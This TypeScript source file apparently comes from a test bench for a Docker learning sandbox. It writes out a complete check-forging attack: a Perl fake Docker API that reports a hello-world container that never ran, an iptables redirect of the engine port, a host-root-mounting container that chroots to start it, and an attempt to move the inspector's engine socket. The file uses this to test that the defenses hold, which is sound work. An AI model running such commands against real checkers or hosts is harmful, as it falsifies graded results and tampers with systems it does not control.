import type { Attack } from './attack';

/**
 * A fake Docker API in Perl (core modules only), on 127.0.0.1:23751: one exited hello-world container that
 * printed its greeting, its image, and a ping. Enough for `docker ps`, `inspect` and `logs`, so a check whose
 * `docker` reached it would pass lesson 1 step 1 with no container on the real engine.
 */
export const FAKE_DOCKER_API_PERL = String.raw`use IO::Socket::INET;
my $s = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => 23751, Listen => 16, ReuseAddr => 1) or die "listen: $!";
my $id = ('c0ffee' x 10) . 'c0ff';
while (my $c = $s->accept) {
  my $req = <$c>; next unless defined $req;
  while (my $l = <$c>) { last if $l =~ /^\r?\n$/ }
  my (undef, $p) = split ' ', $req;
  my ($type, $body) = ('application/json', '{}');
  if ($p =~ m{/_ping}) { ($type, $body) = ('text/plain', 'OK') }
  elsif ($p =~ m{/containers/json}) { $body = qq([{"Id":"$id","Names":["/hello"],"Image":"hello-world","ImageID":"sha256:$id","Command":"/hello","State":"exited","Status":"Exited (0)","Created":1}]) }
  elsif ($p =~ m{/containers/[^/]+/logs}) { my $t = "Hello from Docker!\n"; $type = 'application/vnd.docker.raw-stream'; $body = pack('CxxxN', 1, length $t) . $t }
  elsif ($p =~ m{/containers/[^/]+/json}) { $body = qq({"Id":"$id","Name":"/hello","Image":"sha256:$id","Config":{"Image":"hello-world","Tty":false},"State":{"Status":"exited","ExitCode":0,"Running":false}}) }
  elsif ($p =~ m{/images/json}) { $body = qq([{"Id":"sha256:$id","RepoTags":["hello-world:latest"],"Created":1,"Size":1}]) }
  elsif ($p =~ m{/images/}) { $body = qq({"Id":"sha256:$id","RepoTags":["hello-world:latest"]}) }
  print $c "HTTP/1.1 200 OK\r\nApi-Version: 1.41\r\nContent-Type: $type\r\nContent-Length: " . length($body) . "\r\nConnection: close\r\n\r\n$body";
  close $c;
}
`;

/**
 * The forged-check attack as one learner command: the fake API above, run by the learner's own engine (a
 * busybox container on the sandbox's network that chroots into the sandbox's files for perl: what Docker runs
 * outlives the command, where a `setsid` process is ended after it), the engine's old
 * loopback port redirected to it, and a try at moving the inspector's engine socket aside. Prints
 * `fake-api-up` once the fake answers through the redirect, and `socket-locked` when the move was refused.
 */
export const FAKE_API_ATTACK_COMMAND = [
  `cat > /tmp/fake-api.pl <<'DOCKHAND_EOF'\n${FAKE_DOCKER_API_PERL}DOCKHAND_EOF`,
  'iptables -t nat -I OUTPUT -p tcp -d 127.0.0.1 --dport 23750 -j REDIRECT --to-ports 23751',
  'docker run -d --rm --network host -v /:/host busybox chroot /host perl /tmp/fake-api.pl >/dev/null',
  'for i in $(seq 50); do curl -s -m 1 127.0.0.1:23750/_ping 2>/dev/null | grep -q OK && { echo fake-api-up; break; }; sleep 0.1; done',
  'mv /dockhand-engine/docker.sock /dockhand-engine/old 2>/dev/null && echo socket-moved || echo socket-locked',
].join('\n');

/** Attacks on the checks themselves (a forged engine); the bench reports the bystander's latency while they run. */
export const CHECK_ATTACKS: Attack[] = [
  { name: 'iptables REDIRECT of the engine port to a fake Docker API (perl in a nested container)', command: FAKE_API_ATTACK_COMMAND, expect: (r) => r.output.includes('fake-api-up') && r.output.includes('socket-locked') },
];
